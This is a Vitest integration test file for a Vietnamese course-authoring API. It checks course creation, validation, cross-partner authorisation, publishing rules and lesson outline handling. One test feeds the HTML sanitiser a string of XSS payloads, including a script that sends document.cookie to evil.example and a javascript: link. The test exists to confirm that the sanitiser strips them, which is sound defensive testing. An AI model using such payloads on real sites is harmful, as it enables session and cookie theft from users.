import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedPrograms } from '../../db/seed/programs';
import { Browser, createTestApp, createUser, type TestApp } from '../../test/app';
import { insertOrganisation } from '../organisations/repo';
import { ensurePersonForUser } from '../people/repo';
import { createCourseFromSpec } from './factory';

let t: TestApp;
let orgA: string;
let orgB: string;
let adminA: Browser;
let trainerA: Browser;
let adminB: Browser;
let trainerB: Browser;
let learner: Browser;

const newCourse = (over: Record<string, unknown> = {}) => ({
  organisationId: orgA,
  teachingLanguage: 'vi',
  title: 'Kỹ năng số cho công nhân nhà máy',
  summary: 'Dùng điện thoại và máy tính an toàn trong công việc.',
  topic: 'digital_skills',
  level: 'beginner',
  durationHours: 24,
  deliveryMode: 'online',
  ...over,
});

beforeAll(async () => {
  t = await createTestApp();
  await seedPrograms(t.ctx.db, { demo: false });
  orgA = (
    await insertOrganisation(t.ctx.db, { slug: 'partner-a', name: 'Đối tác A', kind: 'training_partner' })
  ).id;
  orgB = (
    await insertOrganisation(t.ctx.db, { slug: 'partner-b', name: 'Đối tác B', kind: 'training_partner' })
  ).id;
  await createUser(t, 'admin@a.vn', [{ role: 'partner_admin', organisationId: orgA }]);
  await createUser(t, 'trainer@a.vn', [{ role: 'trainer', organisationId: orgA }]);
  await createUser(t, 'admin@b.vn', [{ role: 'partner_admin', organisationId: orgB }]);
  await createUser(t, 'trainer@b.vn', [{ role: 'trainer', organisationId: orgB }]);
  await createUser(t, 'learner@a.vn', [{ role: 'learner', organisationId: orgA }]);
  adminA = await new Browser(t).login('admin@a.vn');
  trainerA = await new Browser(t).login('trainer@a.vn');
  adminB = await new Browser(t).login('admin@b.vn');
  trainerB = await new Browser(t).login('trainer@b.vn');
  learner = await new Browser(t).login('learner@a.vn');
});
afterAll(() => t.close());

async function draftWithLessons(slug: string) {
  const res = await adminA.post('/api/courses', newCourse({ slug, title: `Khoá ${slug}` }));
  expect(res.statusCode).toBe(201);
  return res.json() as { id: string; slug: string };
}

const auditActions = async (courseId: string) =>
  (
    await t.ctx.db
      .selectFrom('audit_log')
      .select('action')
      .where('entity_id', '=', courseId)
      .orderBy('id')
      .execute()
  ).map((a) => a.action);

describe('creating a course', () => {
  it('is for partner admins of the organisation, checks everything at once, and changes nothing when refused', async () => {
    expect((await learner.post('/api/courses', newCourse())).statusCode).toBe(403);
    expect((await trainerA.post('/api/courses', newCourse())).json().code).toBe('FORBIDDEN');
    expect((await adminB.post('/api/courses', newCourse())).statusCode).toBe(403);

    const bad = await adminA.post(
      '/api/courses',
      newCourse({
        deliveryMode: 'in_person',
        translations: { vi: { title: 'Trùng ngôn ngữ', summary: '' } },
        programs: ['new-opportunities', 'khong-co'],
        prerequisites: ['00000000-0000-4000-8000-000000000000'],
      }),
    );
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toEqual({
      code: 'VALIDATION_FAILED',
      message: 'Dữ liệu gửi lên không hợp lệ.',
      fields: {
        '/translations/vi': 'Không cần bản dịch sang ngôn ngữ giảng dạy của khoá học.',
        '/province': 'Khoá học trực tiếp hoặc kết hợp cần có tỉnh/thành phố nơi học.',
        '/programs/1': 'Không có chương trình với mã này.',
        '/prerequisites/0': 'Không có khoá học điều kiện này, hoặc bạn không được dùng nó.',
      },
    });
    const unknownPlace = await adminA.post(
      '/api/courses',
      newCourse({ deliveryMode: 'blended', province: 'Atlantis' }),
    );
    expect(unknownPlace.json().fields).toEqual({
      '/province': 'Không có tỉnh/thành phố (hiện tại hoặc trước 1/7/2025) với tên hoặc mã này.',
    });
    const count = await t.ctx.db
      .selectFrom('courses')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow();
    expect(Number(count.n)).toBe(0);
  });

  it('makes a draft with a slug from the title, a current province from a former name, and an audit entry', async () => {
    const res = await adminA.post(
      '/api/courses',
      newCourse({
        title: 'Kỹ thuật viên bán dẫn cơ bản',
        deliveryMode: 'blended',
        province: 'Quảng Nam',
        skills: [' phòng  sạch ', 'Phòng sạch', 'Kiểm tra wafer'],
        programs: ['semiconductor-2030'],
        translations: { en: { title: 'Semiconductor technician basics', summary: 'Clean rooms.' } },
        minAttendancePct: 80,
        isTot: true,
      }),
    );
    expect(res.statusCode).toBe(201);
    const c = res.json();
    expect(c).toMatchObject({
      slug: 'ky-thuat-vien-ban-dan-co-ban',
      status: 'draft',
      publishedAt: null,
      province: { code: '48', name: 'Thành phố Đà Nẵng' },
      skills: ['Kiểm tra wafer', 'phòng sạch'],
      programs: [{ code: 'semiconductor-2030', name: 'Nhân lực Bán dẫn 2030' }],
      translations: { en: { title: 'Semiconductor technician basics', summary: 'Clean rooms.' } },
      minAttendancePct: 80,
      isTot: true,
      isOpen: true,
      modules: [],
      viewer: { canEdit: true, canManage: true, enrolled: false },
    });
    const again = await adminA.post('/api/courses', newCourse({ title: 'Kỹ thuật viên bán dẫn cơ bản' }));
    expect(again.json().slug).toBe('ky-thuat-vien-ban-dan-co-ban-2');
    const taken = await adminA.post('/api/courses', newCourse({ slug: 'ky-thuat-vien-ban-dan-co-ban' }));
    expect(taken.statusCode).toBe(409);
    expect(taken.json().code).toBe('COURSE_SLUG_TAKEN');
    expect(await auditActions(c.id)).toEqual(['course.created']);
    const row = await t.ctx.db
      .selectFrom('courses')
      .select(['search_folded', 'title_folded'])
      .where('id', '=', c.id)
      .executeTakeFirstOrThrow();
    expect(row.title_folded).toBe('ky thuat vien ban dan co ban semiconductor technician basics');
    expect(row.search_folded).toContain('phong sach');
  });
});

describe('who may author', () => {
  it("lets a trainer of A edit A's course and keeps the search text current; nobody else", async () => {
    const a = await draftWithLessons('khoa-cua-a');
    const edited = await trainerA.patch(`/api/courses/${a.id}`, {
      title: 'Điện toán đám mây nhập môn',
      skills: ['AWS'],
    });
    expect(edited.statusCode).toBe(200);
    expect(edited.json()).toMatchObject({ title: 'Điện toán đám mây nhập môn', skills: ['AWS'] });
    const row = await t.ctx.db
      .selectFrom('courses')
      .select('search_folded')
      .where('id', '=', a.id)
      .executeTakeFirstOrThrow();
    expect(row.search_folded).toBe(
      'dien toan dam may nhap mon dung dien thoai va may tinh an toan trong cong viec aws',
    );
    expect((await trainerA.post(`/api/courses/${a.id}/publish`)).statusCode).toBe(403);
    expect((await learner.patch(`/api/courses/${a.id}`, { title: 'Học viên sửa' })).statusCode).toBe(403);
    expect((await trainerA.post(`/api/courses/${a.id}/modules`, { title: 'Chương 1' })).statusCode).toBe(201);

    const b = await createCourseFromSpec(t.ctx.db, {
      organisationId: orgB,
      slug: 'khoa-cua-b',
      title: 'Khoá của B',
    });
    expect((await trainerA.patch(`/api/courses/${b.id}`, { title: 'Tôi sửa' })).statusCode).toBe(403);
    expect((await trainerA.post(`/api/courses/${b.id}/modules`, { title: 'Chèn' })).statusCode).toBe(403);
    expect((await adminA.post(`/api/courses/${b.id}/archive`)).statusCode).toBe(403);
  });

  it("refuses the other partner's admins and trainers every authoring route of a course, and changes nothing", async () => {
    const a = await draftWithLessons('khoa-bi-tan-cong');
    const module = (await adminA.post(`/api/courses/${a.id}/modules`, { title: 'Chương' })).json();
    const lesson = (
      await adminA.post(`/api/courses/${a.id}/modules/${module.id}/lessons`, {
        title: 'Bài',
        kind: 'text',
        bodyHtml: '<p>Nội dung</p>',
      })
    ).json();
    const before = await t.ctx.db
      .selectFrom('courses')
      .selectAll()
      .where('id', '=', a.id)
      .executeTakeFirstOrThrow();
    const lessonBefore = await t.ctx.db
      .selectFrom('lessons')
      .selectAll()
      .where('id', '=', lesson.id)
      .executeTakeFirstOrThrow();
    const auditBefore = await auditActions(a.id);

    const routes = t.routes.filter((r) => r.url.startsWith('/api/courses/:id'));
    expect(routes.length).toBeGreaterThanOrEqual(12);
    const body = {
      title: 'Bị sửa',
      kind: 'text',
      bodyHtml: '<p>x</p>',
      modules: [{ id: module.id, lessonIds: [lesson.id] }],
      organisationId: orgB,
    };
    for (const outsider of [adminB, trainerB]) {
      for (const r of routes) {
        const url = r.url
          .replace(':id', a.id)
          .replace(':moduleId', module.id)
          .replace(':lessonId', lesson.id);
        const res = await outsider.request(r.method as 'GET', url, r.method === 'GET' ? undefined : body);
        expect
          .soft([403, 404], `${r.method} ${r.url} gave ${res.statusCode} ${res.body}`)
          .toContain(res.statusCode);
      }
    }
    expect(
      await t.ctx.db.selectFrom('courses').selectAll().where('id', '=', a.id).executeTakeFirstOrThrow(),
    ).toEqual(before);
    expect(
      await t.ctx.db.selectFrom('lessons').selectAll().where('id', '=', lesson.id).executeTakeFirstOrThrow(),
    ).toEqual(lessonBefore);
    expect(await auditActions(a.id)).toEqual(auditBefore);
  });

  it("lists an organisation's courses in every status to its authors only", async () => {
    const list = await trainerA.get(
      `/api/organisations/${orgA}/courses?status=draft&sort=title&pageSize=100`,
    );
    expect(list.statusCode).toBe(200);
    expect(list.json().total).toBeGreaterThan(0);
    expect(list.json().items.every((c: { status: string }) => c.status === 'draft')).toBe(true);
    expect((await adminB.get(`/api/organisations/${orgA}/courses`)).statusCode).toBe(403);
    expect((await learner.get(`/api/organisations/${orgA}/courses`)).statusCode).toBe(403);
  });
});

describe('publishing', () => {
  it('refuses a course without a published lesson, in the reader’s language', async () => {
    const c = await draftWithLessons('chua-co-bai');
    const vi = await adminA.post(`/api/courses/${c.id}/publish`);
    expect(vi.statusCode).toBe(422);
    expect(vi.json()).toEqual({
      code: 'COURSE_NEEDS_PUBLISHED_LESSON',
      message: 'Khoá học đã xuất bản cần ít nhất một bài học đã xuất bản. Hãy xuất bản một bài học trước.',
    });
    adminA.cookies.set('nl_lang', 'en');
    expect((await adminA.post(`/api/courses/${c.id}/publish`)).json().message).toBe(
      'A published course needs at least one published lesson. Publish a lesson first.',
    );
    adminA.cookies.set('nl_lang', 'ja');
    expect((await adminA.post(`/api/courses/${c.id}/publish`)).json().message).toBe(
      '公開するコースには、公開済みのレッスンが少なくとも1つ必要です。先にレッスンを公開してください。',
    );
    adminA.cookies.delete('nl_lang');
    expect(
      (await t.ctx.db.selectFrom('courses').select('status').where('id', '=', c.id).executeTakeFirstOrThrow())
        .status,
    ).toBe('draft');
  });

  it('publishes once a complete lesson is published, keeps it so, archives and re-publishes', async () => {
    const c = await draftWithLessons('se-xuat-ban');
    const m = (await trainerA.post(`/api/courses/${c.id}/modules`, { title: 'Chương 1' })).json();
    const empty = (
      await trainerA.post(`/api/courses/${c.id}/modules/${m.id}/lessons`, {
        title: 'Bài trống',
        kind: 'text',
        bodyHtml: '<p> </p>',
      })
    ).json();
    expect((await trainerA.post(`/api/courses/${c.id}/lessons/${empty.id}/publish`)).json().code).toBe(
      'LESSON_INCOMPLETE',
    );
    await trainerA.patch(`/api/courses/${c.id}/lessons/${empty.id}`, { bodyHtml: '<p>Đã có nội dung.</p>' });
    const published = await trainerA.post(`/api/courses/${c.id}/lessons/${empty.id}/publish`);
    expect(published.json()).toMatchObject({ status: 'published', bodyHtml: '<p>Đã có nội dung.</p>' });

    const course = await adminA.post(`/api/courses/${c.id}/publish`);
    expect(course.statusCode).toBe(200);
    expect(course.json().status).toBe('published');
    const publishedAt = course.json().publishedAt;
    expect(publishedAt).toMatch(/^\d{4}-\d\d-\d\dT/);
    expect((await new Browser(t).get('/api/courses?q=se%20xuat%20ban')).json().total).toBe(1);

    // The last published lesson of a published course can be neither hidden, emptied nor deleted.
    expect((await trainerA.post(`/api/courses/${c.id}/lessons/${empty.id}/unpublish`)).json().code).toBe(
      'COURSE_NEEDS_PUBLISHED_LESSON',
    );
    expect((await trainerA.delete(`/api/courses/${c.id}/lessons/${empty.id}`)).json().code).toBe(
      'COURSE_NEEDS_PUBLISHED_LESSON',
    );
    expect(
      (await trainerA.patch(`/api/courses/${c.id}/lessons/${empty.id}`, { bodyHtml: '' })).json().code,
    ).toBe('LESSON_INCOMPLETE');
    // Its address is fixed now.
    const slug = await adminA.patch(`/api/courses/${c.id}`, { slug: 'dia-chi-moi' });
    expect(slug.statusCode).toBe(422);
    expect(slug.json().code).toBe('COURSE_SLUG_FROZEN');

    // The counts without words come from the trigger-kept summary: they follow every change.
    const publishedCount = async () =>
      Number(
        (
          await t.ctx.db
            .selectFrom('courses')
            .select((eb) => eb.fn.countAll<number>().as('n'))
            .where('status', '=', 'published')
            .executeTakeFirstOrThrow()
        ).n,
      );
    const before = (await new Browser(t).get('/api/courses')).json();
    expect(before.total).toBe(await publishedCount());
    expect((await adminA.post(`/api/courses/${c.id}/archive`)).json().status).toBe('archived');
    const after = (await new Browser(t).get('/api/courses')).json();
    expect(after.total).toBe(before.total - 1);
    expect(after.total).toBe(await publishedCount());
    expect((await new Browser(t).get('/api/courses?q=se%20xuat%20ban')).json().total).toBe(0);
    const again = (await adminA.post(`/api/courses/${c.id}/publish`)).json();
    expect(again).toMatchObject({ status: 'published', publishedAt });
    expect((await new Browser(t).get('/api/courses?q=se%20xuat%20ban')).json().total).toBe(1);
    expect(await auditActions(c.id)).toEqual([
      'course.created',
      'course.module_created',
      'course.lesson_created',
      'course.lesson_updated',
      'course.lesson_published',
      'course.published',
      'course.archived',
      'course.published',
    ]);
  });
});

describe('lesson content', () => {
  it('stores rich text cleaned of XSS payloads', async () => {
    const c = await draftWithLessons('noi-dung-an-toan');
    const m = (await trainerA.post(`/api/courses/${c.id}/modules`, { title: 'Chương' })).json();
    const dirty =
      '<h2 onclick="alert(1)">Bài 1</h2><img src=x onerror=alert(1)><a href="javascript:alert(document.cookie)">bấm</a>' +
      '<script>fetch("https://evil.example/?c="+document.cookie)</script><svg onload=alert(1)><p style="color:red">An toàn</p>' +
      '<iframe src="https://evil.example"></iframe><img src="https://cdn.nic.gov.vn/wafer.png" alt="Wafer">';
    const res = await trainerA.post(`/api/courses/${c.id}/modules/${m.id}/lessons`, {
      title: 'XSS',
      kind: 'text',
      bodyHtml: dirty,
    });
    expect(res.statusCode).toBe(201);
    const clean =
      '<h2>Bài 1</h2><a rel="noopener noreferrer">bấm</a><p>An toàn</p><img src="https://cdn.nic.gov.vn/wafer.png" alt="Wafer" />';
    expect(res.json().bodyHtml).toBe(clean);
    const stored = await t.ctx.db
      .selectFrom('lessons')
      .select('body_html')
      .where('id', '=', res.json().id)
      .executeTakeFirstOrThrow();
    expect(stored.body_html).toBe(clean);
  });

  it('checks video addresses, files and quizzes against the course', async () => {
    const c = await draftWithLessons('kiem-tra-bai');
    const m = (await trainerA.post(`/api/courses/${c.id}/modules`, { title: 'Chương' })).json();
    const url = `/api/courses/${c.id}/modules/${m.id}/lessons`;
    const http = await trainerA.post(url, {
      title: 'Video',
      kind: 'video',
      videoUrl: 'http://www.youtube.com/watch?v=aircAruvnKk',
    });
    expect(http.statusCode).toBe(400);
    expect(http.json().fields).toEqual({
      '/videoUrl': 'Đường dẫn video phải bắt đầu bằng https:// và là YouTube, Vimeo hoặc một tệp .mp4/.webm.',
    });
    const video = await trainerA.post(url, {
      title: 'Video',
      kind: 'video',
      videoUrl: 'https://youtu.be/aircAruvnKk',
    });
    expect(video.json()).toMatchObject({
      kind: 'video',
      videoUrl: 'https://youtu.be/aircAruvnKk',
      videoEmbedUrl: 'https://www.youtube-nocookie.com/embed/aircAruvnKk',
      bodyHtml: null,
    });
    // Turned into text, the lesson keeps no video address.
    const text = await trainerA.patch(`/api/courses/${c.id}/lessons/${video.json().id}`, {
      kind: 'text',
      bodyHtml: '<p>Chữ</p>',
    });
    expect(text.json()).toMatchObject({ kind: 'text', videoUrl: null, bodyHtml: '<p>Chữ</p>' });

    expect((await trainerA.post(url, { title: 'Quiz', kind: 'quiz' })).json().fields).toEqual({
      '/quizId': 'Trường này là bắt buộc.',
    });
    const other = await createCourseFromSpec(t.ctx.db, {
      organisationId: orgA,
      slug: 'khoa-khac',
      title: 'Khoá khác',
    });
    const foreignQuiz = await t.ctx.db
      .insertInto('quizzes')
      .values({ course_id: other.id, title: 'Bài kiểm tra khác' })
      .returning('id')
      .executeTakeFirstOrThrow();
    expect(
      (await trainerA.post(url, { title: 'Quiz', kind: 'quiz', quizId: foreignQuiz.id })).json().fields,
    ).toEqual({
      '/quizId': 'Bài kiểm tra này không thuộc khoá học.',
    });
    const ownQuiz = await t.ctx.db
      .insertInto('quizzes')
      .values({ course_id: c.id, title: 'Kiểm tra chương 1' })
      .returning('id')
      .executeTakeFirstOrThrow();
    expect(
      (await trainerA.post(url, { title: 'Quiz', kind: 'quiz', quizId: ownQuiz.id })).json(),
    ).toMatchObject({
      kind: 'quiz',
      quizId: ownQuiz.id,
    });
    const fileOfB = await t.ctx.db
      .insertInto('files')
      .values({
        organisation_id: orgB,
        storage_key: 'x/file-of-b',
        filename: 'b.pdf',
        content_type: 'application/pdf',
        size_bytes: 1,
        sha256: 'x',
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    expect(
      (await trainerA.post(url, { title: 'Tệp', kind: 'file', fileId: fileOfB.id })).json().fields,
    ).toEqual({
      '/fileId': 'Không có tệp này trong tổ chức sở hữu khoá học.',
    });
  });
});

describe('the outline', () => {
  it('reorders modules and lessons within and across modules from the full ordered list', async () => {
    const c = await draftWithLessons('sap-xep');
    const m1 = (await trainerA.post(`/api/courses/${c.id}/modules`, { title: 'Chương 1' })).json();
    const m2 = (await trainerA.post(`/api/courses/${c.id}/modules`, { title: 'Chương 2' })).json();
    expect([m1.position, m2.position]).toEqual([1, 2]);
    const add = async (moduleId: string, title: string) =>
      (
        await trainerA.post(`/api/courses/${c.id}/modules/${moduleId}/lessons`, {
          title,
          kind: 'text',
          bodyHtml: `<p>${title}</p>`,
        })
      ).json().id as string;
    const l1 = await add(m1.id, 'Bài 1');
    const l2 = await add(m1.id, 'Bài 2');
    const l3 = await add(m1.id, 'Bài 3');
    const l4 = await add(m2.id, 'Bài 4');

    const res = await trainerA.put(`/api/courses/${c.id}/outline`, {
      modules: [
        { id: m2.id, lessonIds: [l3, l4] },
        { id: m1.id, lessonIds: [l2, l1] },
      ],
    });
    expect(res.statusCode).toBe(200);
    const shape = (
      modules: { title: string; position: number; lessons: { title: string; position: number }[] }[],
    ) => modules.map((m) => [m.position, m.title, m.lessons.map((l) => `${l.position}:${l.title}`)]);
    const expected = [
      [1, 'Chương 2', ['1:Bài 3', '2:Bài 4']],
      [2, 'Chương 1', ['1:Bài 2', '2:Bài 1']],
    ];
    expect(shape(res.json().modules)).toEqual(expected);
    expect(shape((await trainerA.get(`/api/courses/${c.id}`)).json().modules)).toEqual(expected);

    // A list that does not match the course — stale, repeated or foreign — changes nothing.
    for (const modules of [
      [
        { id: m2.id, lessonIds: [l3, l4] },
        { id: m1.id, lessonIds: [l2] },
      ],
      [
        { id: m2.id, lessonIds: [l3, l4, l1] },
        { id: m1.id, lessonIds: [l2, l1] },
      ],
      [
        { id: m2.id, lessonIds: [l3, l4] },
        { id: m1.id, lessonIds: [l2, '00000000-0000-4000-8000-000000000000'] },
      ],
      [{ id: m2.id, lessonIds: [l3, l4, l2, l1] }],
    ]) {
      const stale = await trainerA.put(`/api/courses/${c.id}/outline`, { modules });
      expect(stale.statusCode).toBe(409);
      expect(stale.json().code).toBe('OUTLINE_MISMATCH');
    }
    expect(shape((await trainerA.get(`/api/courses/${c.id}`)).json().modules)).toEqual(expected);

    // A module with lessons is not deleted; emptied, it is, and the others close ranks.
    expect((await trainerA.delete(`/api/courses/${c.id}/modules/${m2.id}`)).json().code).toBe(
      'MODULE_NOT_EMPTY',
    );
    await trainerA.put(`/api/courses/${c.id}/outline`, {
      modules: [
        { id: m2.id, lessonIds: [] },
        { id: m1.id, lessonIds: [l1, l2, l3, l4] },
      ],
    });
    expect((await trainerA.delete(`/api/courses/${c.id}/modules/${m2.id}`)).statusCode).toBe(204);
    const renamed = await trainerA.patch(`/api/courses/${c.id}/modules/${m1.id}`, {
      title: 'Chương duy nhất',
    });
    expect(renamed.json()).toMatchObject({ title: 'Chương duy nhất', position: 1 });
    expect(renamed.json().lessons.map((l: { title: string }) => l.title)).toEqual([
      'Bài 1',
      'Bài 2',
      'Bài 3',
      'Bài 4',
    ]);
  });

  it('never deletes a lesson a learner has studied', async () => {
    const c = await createCourseFromSpec(t.ctx.db, {
      organisationId: orgA,
      slug: 'da-hoc',
      title: 'Đã học',
      modules: [
        {
          title: 'Chương',
          lessons: [
            { title: 'Bài 1', bodyHtml: '<p>1</p>' },
            { title: 'Bài 2', bodyHtml: '<p>2</p>' },
          ],
        },
      ],
    });
    const u = await createUser(t, 'hocvien@da-hoc.vn');
    const person = await ensurePersonForUser(t.ctx.db, u.id);
    const cohort = await t.ctx.db
      .insertInto('cohorts')
      .values({ course_id: c.id, organisation_id: orgA, code: 'DH-1', name: 'Lớp 1' })
      .returning('id')
      .executeTakeFirstOrThrow();
    const e = await t.ctx.db
      .insertInto('enrolments')
      .values({ cohort_id: cohort.id, person_id: person.id, status: 'enrolled', source: 'admin' })
      .returning('id')
      .executeTakeFirstOrThrow();
    const studied = c.modules[0]!.lessonIds[0]!;
    await t.ctx.db.insertInto('lesson_progress').values({ enrolment_id: e.id, lesson_id: studied }).execute();
    const res = await trainerA.delete(`/api/courses/${c.id}/lessons/${studied}`);
    expect(res.statusCode).toBe(409);
    expect(res.json().code).toBe('LESSON_HAS_PROGRESS');
    expect(
      (await trainerA.delete(`/api/courses/${c.id}/lessons/${c.modules[0]!.lessonIds[1]}`)).statusCode,
    ).toBe(204);
    const left = await t.ctx.db
      .selectFrom('lessons')
      .select(['title', 'position'])
      .where('course_id', '=', c.id)
      .execute();
    expect(left).toEqual([{ title: 'Bài 1', position: 1 }]);
  });
});
